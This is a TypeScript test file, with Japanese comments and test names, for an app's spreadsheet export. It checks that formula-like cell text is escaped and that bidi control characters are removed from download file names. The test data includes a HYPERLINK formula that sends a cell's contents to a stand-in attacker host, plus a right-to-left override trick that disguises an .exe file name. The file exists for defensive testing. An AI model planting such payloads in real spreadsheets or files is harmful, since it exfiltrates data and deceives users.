import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contentDisposition } from '../../src/platform/exports/download.ts';
import { prepareSheet, readFirstSheet, writeXlsx } from '../../src/platform/exports/xlsx.ts';
import { buildTestApp, type Client, type TestApp } from '../support/app.ts';

/**
 * Issue 11 #12: exported registers kept user text beginning with `= + - @` as it was, so a cell
 * that is opened and edited in Excel (F2, Enter) turns into a formula — `=HYPERLINK(…)` or a DDE
 * call typed as a person's name (CSV/formula injection, OWASP). And a download name could carry
 * bidi overrides (U+202E) that make `…gpj.exe` read as `…exe.jpg`.
 */

async function cellsOf(buffer: Buffer): Promise<unknown[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const values: unknown[] = [];
  workbook.worksheets[0]?.eachRow((row, n) => {
    if (n > 1) values.push(row.getCell(1).value);
  });
  return values;
}

const dangerous = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', '+81-3-1234-5678', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=already quoted"];

describe('#12 xlsx 出力: 数式として解釈される文字列', () => {
  it("= + - @ タブ CR で始まる文字列は先頭に ' を付けて書く（数値・普通の文字列はそのまま）", async () => {
    const rows = [...dangerous, '佐藤 花子', 'a=b', -5];
    const sheet = prepareSheet({ name: '一覧', columns: [{ header: '値', value: (v: string | number) => v }], rows });
    expect(sheet.rows.map((cells) => cells[0])).toEqual([...dangerous.map((text) => `'${text}`), '佐藤 花子', 'a=b', -5]);
    // And so in the file (XML turns the CR into LF, which is older behaviour and not the point here).
    expect(await cellsOf(await writeXlsx(sheet))).toEqual([...dangerous.map((text) => `'${text}`.replace('\r', '\n')), '佐藤 花子', 'a=b', -5]);
  });

  it('取込で読み戻すと元の文字列に戻る（出力→取込で値が変わらない）', async () => {
    const rows = [...dangerous.filter((text) => !text.startsWith('\r')), "'普通の引用符", '佐藤 花子'];
    const buffer = await writeXlsx(prepareSheet({ name: '一覧', columns: [{ header: '値', value: (v: string) => v }], rows }));
    const sheet = await readFirstSheet(buffer);
    expect(sheet.rows.map((r) => r.cells[1])).toEqual(rows);
  });
});

describe('#12 xlsx 出力: API 経由（従業者一覧）', () => {
  let t: TestApp;
  let pms: Client;
  beforeAll(async () => {
    t = await buildTestApp();
    pms = await t.login('pms@demo.mamori.local');
  });
  afterAll(() => t.close());

  it("氏名に入れた数式は、出力されたファイルで文字列のまま（先頭に '）", async () => {
    const created = await pms.request('POST', '/api/people', { name: '=HYPERLINK("http://evil.example","x")', employmentType: 'employee' });
    expect(created.status).toBe(201);
    const res = await pms.request('GET', '/api/people/export.xlsx');
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.raw as unknown as ArrayBuffer);
    const texts: string[] = [];
    workbook.worksheets[0]?.eachRow((row) => row.eachCell((cell) => void texts.push(String(cell.value))));
    expect(texts).toContain(`'=HYPERLINK("http://evil.example","x")`);
    expect(texts).not.toContain('=HYPERLINK("http://evil.example","x")');
  });
});

describe('#12 ダウンロードのファイル名: 双方向テキストの制御文字', () => {
  const controls = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069].map((code) => [code.toString(16).toUpperCase(), String.fromCodePoint(code)]);
  it.each(controls)('U+%s を取り除く', (_name, control) => {
    const header = contentDisposition(`請求書${control}gpj.exe`);
    const star = decodeURIComponent(header.split("filename*=UTF-8''")[1] ?? '');
    expect(star).toBe('請求書gpj.exe');
    expect(header).not.toContain(control);
  });
});
